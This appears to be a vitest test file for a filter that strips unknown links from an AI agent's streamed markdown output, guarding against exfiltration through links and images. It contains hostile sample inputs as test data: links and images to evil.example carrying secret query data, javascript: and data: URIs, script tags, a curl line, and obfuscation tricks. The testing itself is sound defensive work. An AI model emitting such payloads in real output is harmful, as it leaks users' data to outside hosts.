import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createLinkFilter, filterLinks } from '../../src/agent/provenance.ts';
import { growth, linear } from '../support/growth.ts';

const known = new Set([
  'https://app.notion.com/p/Key-rotation-123',
  'https://wiki.example/a_(b)',
  'https://wiki.example/ü',
  'www.example.org/docs',
]);
const filter = (text: string) => filterLinks(text, (url) => known.has(url));

const signs = '[ ] ( ) ![ ]( < > ` ``` ~~~ ** \\ | : " .'.split(' ');
const words = [
  '\n',
  '\n\n',
  ' ',
  'https://',
  'https://wiki.example/ü',
  'https://evil.example/x',
  'www.',
  'evil.example/x',
].concat(
  ['javascript:', 'ü', '😀', 'word', '<b>', '<img src=x>', '\u200b', '&#58;', '//', '[1]: x', 'ht', 'tps', 'é'],
  ['[a](https://evil.example)'],
);

describe('the link filter', () => {
  it.each([
    ['a known link', '[Key rotation](https://app.notion.com/p/Key-rotation-123)'],
    ['a known bare URL', 'See https://app.notion.com/p/Key-rotation-123.'],
    ['a known URL in emphasis', '**https://app.notion.com/p/Key-rotation-123**, then'],
    ['a known autolink', '<https://app.notion.com/p/Key-rotation-123>'],
    ['balanced parentheses', '(see https://wiki.example/a_(b))'],
    ['a known URL with other letters', 'See https://wiki.example/ü now'],
    ['a known address without a scheme', 'See www.example.org/docs now'],
    ['lists, tables, headings and emphasis', '# A\n\n- **b** _c_\n- [ ] d\n\n| e | f |\n|---|---|\n| 1 | 2 |\n'],
    ['code', '```ts\nconst a = b[0](c);\nif (a < b) return `x`;\n```\n'],
    ['inline code', 'Run `npm run x[1]` and ``a ` b``.'],
    ['file names and versions', 'Open src/agent/index.ts, Node.js/React 18.2, and config.yaml?'],
    ['comparisons and placeholders', 'a < b, c <d, 3 > 2, <your-key> and <b and c>'],
    ['other scripts', '鍵は90日ごとに交換します。'],
    ['a domain without a path', 'our shop example.com is open'],
    ['unfinished constructs', 'an [open label and `code and <tag'],
    ['colons in prose', 'data: two rows; file: none; note [1] is old; ratio 1:2'],
  ])('leaves %s as it is', (_what, text) => {
    expect(filter(text)).toBe(text);
  });

  it.each([
    ['an unknown link', '[click](https://evil.example/x)', 'click'],
    ['a title', '[click](https://evil.example/x "now")', 'click'],
    ['angle brackets', '[click](<https://evil.example/x y>)', 'click'],
    ['nested brackets', '[a [b] c](https://evil.example)', 'a [b] c'],
    ['white space in the target', '[click](  \n https://evil.example )', 'click'],
    ['a line break in the scheme', '[click](ht\ntps://evil.example)', 'click'],
    ['an uppercase scheme', '[click](HTTPS://EVIL.EXAMPLE)', 'click'],
    ['javascript', '[click](javascript:alert(1))', 'click'],
    ['data', '[click](data:text/html;base64,PHNjcmlwdD4=)', 'click'],
    ['mailto', '[click](mailto:eve@evil.example)', 'click'],
    ['an entity in the target', '[click](&#104;ttps://evil.example)', 'click'],
    ['percent-encoding', '[click](https%3A%2F%2Fevil.example)', 'click'],
    ['a relative target', '[click](//evil.example)', 'click'],
    ['more than the known URL', '[x](https://app.notion.com/p/Key-rotation-123?leak=secret)', 'x'],
    ['an image', '![chart](https://evil.example/p.png?d=secret)', 'chart'],
    ['a known image', '![chart](https://app.notion.com/p/Key-rotation-123)', 'chart'],
    ['a linked image', '[![chart](https://evil.example/i)](https://evil.example/l)', 'chart'],
    ['a reference', '[click][here]\n\n[here]: https://evil.example/x\n', 'click\n\nhere:  (link removed)\n'],
    ['an autolink', 'go <https://evil.example/x> now', 'go (link removed) now'],
    ['a Slack link', 'go <https://evil.example/x|bank> now', 'go bank now'],
    ['a known Slack link', '<https://wiki.example/a_(b)|wiki>', '[wiki](https://wiki.example/a_(b))'],
    ['a mail autolink', '<mailto:eve@evil.example|me>', 'me'],
    ['a bare URL', 'go to https://evil.example/x?a=b, now', 'go to (link removed), now'],
    ['a bare URL with a bare scheme', 'https://еvil.example', '(link removed)еvil.example'],
    ['a domain with a path', 'evil.example/x?d=secret', '(link removed)'],
    ['a bare www', 'WWW.evil.example', '(link removed)'],
    ['another scheme', 'slack://user?team=1 and ftp://evil.example', '(link removed) and (link removed)'],
    ['HTML', 'a<img src="https://evil.example/x">b<script>c</script>', 'abc'],
    ['HTML that joins text', 'https://wiki.example/a_(b)<b></b>secret', '(link removed)'],
    ['an image that joins text', 'https:![](x)//evil.example', '(link removed)'],
    ['zero-width characters', 'ht\u200btps://evil.example/x', '(link removed)'],
    ['an escaped colon', 'https\\://evil.example', '(link removed)'],
    ['an entity for the colon', 'https&#58;//evil.example/x', '(link removed)'],
    ['look-alike letters', 'hｔtps://evil.example/x', 'hｔ(link removed)'],
    ['a tag between label and target', '[a]<b>(//evil.example)', '[a] (//evil.example)'],
    ['an image between label and target', '[a]![](x)(//evil.example)', '[a] (//evil.example)'],
    ['a target that begins in a description', '[a]![(](x)//evil.example)', '[a] (//evil.example)'],
    ['a label inside a label', '[[a]](x)(//evil.example)', '[a] (//evil.example)'],
    ['an empty link between label and target', '[a]<https://evil.example/x|>(//evil.example)', '[a] (//evil.example)'],
    ['a tag in a definition', '[a]<b>: //evil.example', '[a] : //evil.example'],
    ['inline code', '`https://evil.example/x`', '`(link removed)`'],
    ['fenced code', '```\ncurl https://evil.example/x\n```', '```\ncurl (link removed)\n```'],
    ['text glued to a known URL', 'https://wiki.example/ü|secret', 'https://wiki.example/ü |secret'],
    [
      'an unknown URL in the label',
      '[https://evil.example](https://wiki.example/ü)',
      '[(link removed)](https://wiki.example/ü)',
    ],
    ['escaped brackets', '\\[x\\](https://evil.example)', '\\[x\\]((link removed))'],
    ['other scripts after a URL', 'https://evil.example/xをご覧', '(link removed)をご覧'],
  ])('takes the life out of %s', (_what, text, shown) => {
    expect(filter(text)).toBe(shown);
  });

  const fragments = fc.constantFrom(...signs, ...words);
  const hostileText = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(''));

  it('gives the same text however it is cut into deltas', () => {
    fc.assert(
      fc.property(hostileText, fc.infiniteStream(fc.integer({ min: 1, max: 9 })), (text, sizes) => {
        const stream = createLinkFilter((url) => known.has(url));
        let shown = '';
        for (let at = 0; at < text.length; ) {
          const size = sizes.next().value ?? 1;
          for (const piece of stream.push(text.slice(at, at + size))) if ('text' in piece) shown += piece.text;
          at += size;
        }
        for (const piece of stream.end()) if ('text' in piece) shown += piece.text;
        expect(shown).toBe(filter(text));
      }),
      { numRuns: 2_000 },
    );
  });

  it('never shows a URL that is not known', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const shown = filter(text).replaceAll('https://wiki.example/ü', 'known');
        expect(shown).not.toMatch(/\b(?:https?|ftp|javascript):\S|[a-z]:\/\/|\bwww\.\w|evil\.example\/x/i);
        if (!/[`~\\]/.test(text)) expect(shown).not.toMatch(/\]\((?!\)|link removed\))/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('lets plain words flow at once', () => {
    const stream = createLinkFilter(() => false);
    expect(stream.push('Keys rotate every 90 da')).toEqual([{ text: 'Keys rotate every 90 ' }]);
    expect(stream.push('ys and ')).toEqual([{ text: 'days and ' }]);
    expect(stream.push('鍵は')).toEqual([{ text: '鍵は' }]);
  });

  it('puts a mark after the word that it follows', () => {
    const stream = createLinkFilter<string>(() => false);
    expect([...stream.push('Every 90 days'), ...stream.mark('1'), ...stream.push('. Ask')]).toEqual([
      { text: 'Every 90 ' },
      { text: 'days.' },
      { mark: '1' },
      { text: ' ' },
    ]);
    expect(stream.end()).toEqual([{ text: 'Ask' }]);
  });

  it.each(['[', '![', '<a ', '`', 'a-', 'a.', '(', 'https://', '](', '\\', '\n', 'ü'])(
    'costs no more than the size of a text of %j',
    async (part) => {
      expect(await growth((size) => filter(part.repeat(size)), 10_000)).toBeLessThan(linear);
    },
  );
});
